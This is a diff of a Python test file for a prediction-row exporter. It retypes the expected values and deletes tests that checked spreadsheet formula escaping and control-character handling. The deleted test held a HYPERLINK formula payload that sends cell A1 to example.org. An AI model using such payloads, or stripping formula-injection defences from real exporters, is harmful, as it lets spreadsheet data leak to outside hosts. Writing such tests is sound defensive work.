@@ -270,26 +270,8 @@ def test_rows_by_hand() -> None:
     rows = list(prediction_rows([said(0.1, 1, name="a, b", n_tokens=600), said(2 / 3), said(0.75, -1)], ANSWERS))
     assert rows == [
         ("text", "label", "probability", "given", "tokens", "tokens_read", "p_negative", "p_positive"),
-        ("a, b", "negative", "0.9", "positive", "600", "512", "0.9", "0.1"),
-        ("text", "positive", "0.6666666666666666", "", "9", "9", "0.33333333333333337", "0.6666666666666666"),
-        ("text", "positive", "0.75", "-1", "9", "9", "0.25", "0.75"),
+        ("a, b", "negative", 0.9, "positive", 600, 512, 0.9, 0.1),
+        ("text", "positive", 0.6666666666666666, None, 9, 9, 0.33333333333333337, 0.6666666666666666),
+        ("text", "positive", 0.75, -1, 9, 9, 0.25, 0.75),
     ]
     assert list(prediction_rows([], ANSWERS)) == rows[:1]
-
-
-@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
-def test_what_looks_like_a_formula_is_text(sign: str) -> None:
-    formula = f'{sign}HYPERLINK("http://example.org/?" & A1)'
-    header, row = prediction_rows([said(0.9, 0, name=formula)], AnswerInfo.from_training((formula, f"{sign}2")))
-    assert row[:4] == (f"'{formula}", f"'{sign}2", "0.9", f"'{formula}")
-    assert header[-2:] == (f"p_{formula}", f"p_{sign}2")  # begins with p, and so is none
-
-
-def test_a_control_character_does_not_hide_a_formula() -> None:
-    _, *rows = prediction_rows([said(0.9, name=name) for name in ("\t=1", "\r=1", "\n=1", " =1", "\u200b=1")], ANSWERS)
-    assert [row[0] for row in rows] == ["⇥=1", "\\x0d=1", "⏎=1", "␣=1", "\\u200b=1"]
-
-
-def test_a_name_in_a_row_is_never_cut() -> None:
-    _, row = prediction_rows([said(0.9, name="x" * 600 + "\x1b" * 9)], ANSWERS)
-    assert row[0] == "x" * 600 + "\\x1b" * 9
